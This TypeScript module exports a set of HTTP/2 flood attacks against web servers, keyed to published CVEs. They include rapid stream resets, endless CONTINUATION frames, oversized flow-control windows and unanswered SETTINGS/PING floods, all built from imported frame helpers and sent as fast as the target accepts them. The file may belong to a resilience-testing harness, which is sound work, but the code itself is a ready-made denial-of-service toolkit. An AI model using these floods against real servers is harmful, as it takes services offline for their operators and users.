import {
  beginCall,
  call,
  cancel,
  continuation,
  data,
  endOfHeaders,
  endOfStream,
  frame,
  headers,
  number,
  page,
  ping,
  preface,
  priority,
  question,
  requestBlock,
  settings,
  windowUpdate,
} from "./frames.ts";
import { type Attack, flood, type Stream } from "./strike.ts";

const MOST = number(0x7fff_ffff);

function* streams(...make: ((stream: number) => Buffer)[]): Generator<Buffer, never> {
  for (let stream = 1; ; stream += 2) {
    yield Buffer.concat(make.map((frames) => frames(stream)));
  }
}

function* again(blow: Buffer): Generator<Buffer, never> {
  for (;;) {
    yield blow;
  }
}

/** The field `a`, whose value has 16,256 bytes (RFC 7541 §5.1). */
const longField = Buffer.concat([Buffer.of(0, 1, 0x61, 0x7f, 0x81, 0x7e), Buffer.alloc(16_256, 0x61)]);
const aPing = frame(ping, 0, 0, Buffer.alloc(8));

const after =
  (opening: Buffer) =>
  (blows: Stream["blows"]): Stream => ({ opening, blows });
const atOnce = after(preface);
const inBlock = after(Buffer.concat([preface, frame(headers, endOfStream, 1, requestBlock)]));
const inCall = after(Buffer.concat([preface, beginCall(1)]));
const fourTimes = (stream: Stream) => [stream, stream, stream, stream];

/** Frames of HTTP/2, as fast as they are taken. */
export const FLOODS = {
  // CVE-2023-44487.
  "calls that are reset at once": flood(fourTimes(atOnce(() => streams(call, cancel)))),
  "pages that are reset at once": flood(fourTimes(atOnce(() => streams(page, cancel)))),
  // CVE-2025-8671.
  "calls that the service has to reset itself": flood([
    atOnce(() => streams(call, (stream) => frame(windowUpdate, 0, stream, MOST))),
    atOnce(() => streams(call, (stream) => frame(data, 0, stream, question))),
  ]),
  // So many that it can be seen what is kept of each.
  "more streams at once than it takes": flood(fourTimes(atOnce(() => streams(page))), { enough: 150_000 }),
  // CVE-2024-27983, CVE-2025-59465.
  "CONTINUATION without end, empty CONTINUATION, and header blocks that are broken": flood([
    inBlock(() => again(frame(continuation, 0, 1, longField))),
    inBlock(() => again(frame(continuation, 0, 1))),
    atOnce(() => again(frame(headers, endOfStream | endOfHeaders, 1, Buffer.alloc(16_000, 0xff)))),
  ]),
  // CVE-2026-21714.
  "windows that are too large": flood(fourTimes(atOnce(() => again(frame(windowUpdate, 0, 0, MOST))))),
  "windows byte by byte, SETTINGS, PING, PRIORITY, and empty DATA": flood(
    [
      atOnce(() => again(frame(windowUpdate, 0, 0, number(1)))),
      atOnce(() => again(frame(settings, 0, 0))),
      atOnce(() => again(aPing)),
      atOnce(() => streams((stream) => frame(priority, 0, stream, Buffer.alloc(5, 1)))),
      inCall(() => again(frame(data, 0, 1))),
    ],
    { enough: 100_000 },
  ),
  "SETTINGS and PING whose answers are not read": flood(
    [atOnce(() => again(frame(settings, 0, 0))), atOnce(() => again(aPing))],
    { enough: 50_000, reads: false },
  ),
} satisfies Record<string, Attack>;
